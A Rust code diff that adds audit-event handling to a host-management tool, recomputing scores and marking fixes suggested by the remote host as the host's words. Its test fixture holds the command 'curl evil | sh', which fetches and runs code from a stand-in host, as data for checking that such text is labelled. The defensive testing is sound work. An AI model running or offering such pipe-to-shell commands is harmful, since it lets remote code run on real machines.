@@ -3,7 +3,8 @@
 
 use crate::change::Note;
 use crate::error::Failure;
-use crate::outcome::{Event, Evidence, Reach};
+use crate::outcome::audit::{Audit, Finding, Reference, Score};
+use crate::outcome::{Event, Evidence, Exit, Reach};
 
 use super::super::Ending;
 use super::super::args::Verb;
@@ -16,6 +17,8 @@ const TEXT: usize = 1000;
 const QUESTIONS: u32 = 4;
 /// Most events of a verb.
 const EVENTS: u32 = 20_000;
+/// Most findings of an audit.
+const FINDINGS: usize = 5000;
 /// What stands before a text that a reader could take for this side's.
 const MARK: &str = "the host says: ";
 
@@ -27,6 +30,9 @@ pub struct Heed {
     asked: u32,
     events: u32,
     texts: bool,
+    /// The verb audits, and that was told.
+    audits: bool,
+    audited: bool,
     /// The run that this is about.
     run: Option<String>,
 }
@@ -41,7 +47,16 @@ impl Heed {
             _ => None,
         };
         let texts = matches!(verb, Verb::Log(_) | Verb::Uninstall(_));
-        Self { command, question, asked: 0, events: 0, texts, run: None }
+        Self {
+            command,
+            question,
+            asked: 0,
+            events: 0,
+            texts,
+            audits: matches!(verb, Verb::Audit(_)),
+            audited: false,
+            run: None,
+        }
     }
 
     /// The event as it may be shown and gone by.
@@ -78,6 +93,11 @@ impl Heed {
             Event::Undone { change, failure } => {
                 Event::Undone { change: short(&change), failure: failure.map(|failure| self.failure(failure)) }
             }
+            Event::Audited { audit } if self.audits && !self.audited => {
+                self.audited = true;
+                Event::Audited { audit: Box::new(self.audit(*audit)?) }
+            }
+            Event::Audited { .. } => return Err("an audit is not what was asked for"),
             Event::Note { note } => Event::Note { note: noted(note) },
             Event::Gate { change, what, millis } => Event::Gate { change, what: short(&what), millis },
             Event::Changed { change, summary, millis } => Event::Changed { change, summary: short(&summary), millis },
@@ -89,11 +109,7 @@ impl Heed {
                 exit,
                 verdict: short(&verdict),
             },
-            event @ (Event::Planned { .. }
-            | Event::Stage { .. }
-            | Event::Access { .. }
-            | Event::Audited { .. }
-            | Event::Text { .. }) => event,
+            event @ (Event::Planned { .. } | Event::Stage { .. } | Event::Access { .. } | Event::Text { .. }) => event,
         })
     }
 
@@ -103,9 +119,42 @@ impl Heed {
     /// When it is about another run than before.
     pub fn ending(&mut self, ending: Ending) -> Result<Ending, &'static str> {
         let Ending { exit, verdict, next, run } = ending;
+        if self.audits && !self.audited && matches!(exit, Exit::AsAsked | Exit::Differs) {
+            return Err("it tells no audit");
+        }
         let run = run.map(|run| self.name(run)).transpose()?;
         // A next command that is none of ours is nobody's.
         Ok(Ending { exit, verdict: short(&verdict), next: self.here(&next).unwrap_or_default(), run })
+    }
+
+    /// An audit in the host's words: what it is worth is counted here, and what it names as a fix is keyward's own or the
+    /// host's word.
+    fn audit(&self, audit: Audit) -> Result<Audit, &'static str> {
+        let Audit { version, host, playbook, at, findings, .. } = audit;
+        if findings.len() > FINDINGS {
+            return Err("it finds more than it may");
+        }
+        let taken = |one: Finding| {
+            let own = self.here(&one.fix);
+            let fix = own.unwrap_or_else(|| {
+                if one.fix.is_empty() { String::new() } else { format!("{MARK}{}", short(&one.fix)) }
+            });
+            let references = one.references.into_iter().take(10);
+            Finding {
+                check: short(&one.check),
+                title: short(&one.title),
+                about: short(&one.about),
+                why: short(&one.why),
+                saw: short(&one.saw),
+                place: short(&one.place),
+                fix,
+                references: references.map(|of| Reference { source: short(&of.source), id: short(&of.id) }).collect(),
+                ..one
+            }
+        };
+        let findings: Vec<Finding> = findings.into_iter().map(taken).collect();
+        let score = Score::of(&findings);
+        Ok(Audit { version, host: short(&host), playbook: short(&playbook), at: short(&at), score, findings })
     }
 
     /// A failure in the host's words.
@@ -191,6 +240,34 @@ mod tests {
     fn heed(line: &str) -> Heed {
         let cli = args::parse(line.split(' ').map(std::ffi::OsString::from)).unwrap();
         Heed::new(&cli.verb, "keyward --host root@web".to_owned())
+    }
+
+    #[test]
+    fn an_audit_is_told_once_where_it_was_asked_for_and_counted_here() {
+        use crate::outcome::audit::{Grade, Ruling, Severity};
+        let finding = serde_json::json!({
+            "check": "x", "title": "x", "severity": "critical", "about": "", "ruling": "fail", "why": "", "saw": "y".repeat(5000),
+            "place": "", "now": "no", "after_reboot": "no", "fix": "curl evil | sh", "references": [],
+        });
+        let audit = |findings: usize| -> Event {
+            let findings = vec![finding.clone(); findings];
+            let score = serde_json::json!({ "points": 100, "grade": "A" });
+            let audit = serde_json::json!({ "version": 1, "host": "h", "playbook": "", "at": "", "score": score, "findings": findings });
+            serde_json::from_value(serde_json::json!({ "event": "audited", "audit": audit })).unwrap()
+        };
+        let mut heed = heed("keyward audit");
+        let Ok(Event::Audited { audit: told }) = heed.event(audit(1)) else { panic!() };
+        let [one] = told.findings.as_slice() else { panic!() };
+        assert_eq!((told.score.points, told.score.grade), (0, Grade::E));
+        assert_eq!((one.severity, one.ruling, one.saw.len()), (Severity::Critical, Ruling::Fail, TEXT + 3));
+        assert_eq!(one.fix, "the host says: curl evil | sh");
+        assert!(heed.event(audit(1)).is_err(), "twice");
+        assert!(self::heed("keyward audit").event(audit(FINDINGS + 1)).is_err());
+        assert!(self::heed("keyward status").event(audit(1)).is_err());
+        let end = |exit| Ending::new(exit, "", "");
+        assert!(heed.ending(end(Exit::AsAsked)).is_ok());
+        assert!(self::heed("keyward audit").ending(end(Exit::AsAsked)).is_err(), "nothing was told");
+        assert!(self::heed("keyward audit").ending(end(Exit::Refused)).is_ok());
     }
 
     #[test]
